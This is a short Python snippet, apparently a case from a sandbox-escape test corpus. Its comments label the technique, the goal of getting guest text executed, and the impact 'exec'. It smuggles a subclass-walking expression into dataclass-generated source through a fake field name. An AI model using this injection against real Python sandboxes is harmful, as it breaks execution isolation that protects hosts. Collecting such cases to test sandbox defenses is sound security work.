# technique: dataclass() builds source text from the names of fields, its bases' among them
# goal: text of the guest's, executed
# impact: exec
from dataclasses import dataclass, field
class Evil:
    name = "x=[c for c in ().__class__.__base__.__subclasses__()], y"
    init = True
fields = type('F', (), {'__dataclass_fields__': {'x': Evil()}, '__module__': 'x'})
@dataclass
class D(fields):
    a: int = 1
ESCAPED = D
